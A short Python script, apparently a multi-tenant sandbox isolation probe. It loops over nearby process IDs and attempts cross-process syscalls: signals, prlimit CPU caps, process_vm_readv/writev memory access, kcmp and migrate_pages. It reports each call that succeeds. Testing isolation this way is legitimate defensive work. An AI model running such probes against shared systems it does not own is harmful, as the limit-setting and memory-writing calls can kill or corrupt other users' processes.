"""Looks for the guests of other students, who may have the same user, among the numbers near its own and ends them."""

import ctypes
import errno
import os
import platform
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)
TKILL, TGKILL, VM_WRITE, VM_READ, GET_ROBUST_LIST, KCMP, MIGRATE = {
    "x86_64": (200, 234, 311, 310, 274, 312, 256), "aarch64": (130, 131, 271, 270, 100, 272, 238)
}[platform.machine()]
PROCESS_MADVISE, PROCESS_MRELEASE = 440, 448
OWN = os.getpid()
SAFE = signal.SIGURG
NEAR = sorted({*range(2, 300), *range(max(2, OWN - 200), OWN + 200)} - {OWN})


def call(number, *arguments):
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    if libc.syscall(ctypes.c_long(number), *words) < 0:
        raise OSError(ctypes.get_errno(), "")


def attempt(attack, pid):
    try:
        attack(pid)
    except OSError as error:
        return errno.errorcode[error.errno]
    print("ATTACK SUCCEEDED: process", pid)
    return "done"


def listed():
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != OWN]
    except OSError:
        return []


word = ctypes.create_string_buffer(8)
part = ctypes.create_string_buffer((ctypes.addressof(word)).to_bytes(8, "little") + (8).to_bytes(8, "little"), 16)
ATTACKS = {
    "kill": lambda pid: os.kill(pid, SAFE),
    "kill unseen": lambda pid: os.kill(pid, 0),
    "a thread": lambda pid: call(TKILL, pid, SAFE),
    "a thread of a group": lambda pid: call(TGKILL, pid, pid, SAFE),
    "its own thread's number": lambda pid: call(TGKILL, OWN, pid, SAFE),
    "as a group": lambda pid: os.killpg(pid, SAFE),
    "limits": lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
    "read memory": lambda pid: call(VM_READ, pid, part, 1, part, 1, 0),
    "write memory": lambda pid: call(VM_WRITE, pid, part, 1, part, 1, 0),
    "robust list": lambda pid: call(GET_ROBUST_LIST, pid, word, word),
    "compare": lambda pid: call(KCMP, OWN, pid, 0, 0, 0),
    "move pages": lambda pid: call(MIGRATE, pid, 64, word, word),
}
for name, attack in ATTACKS.items():
    print(name, *sorted({attempt(attack, pid) for pid in NEAR}))
print("advise", attempt(lambda fd: call(PROCESS_MADVISE, fd, part, 1, 4, 0), 0))
print("release", attempt(lambda fd: call(PROCESS_MRELEASE, fd, 0), 0))
print("seen", listed())
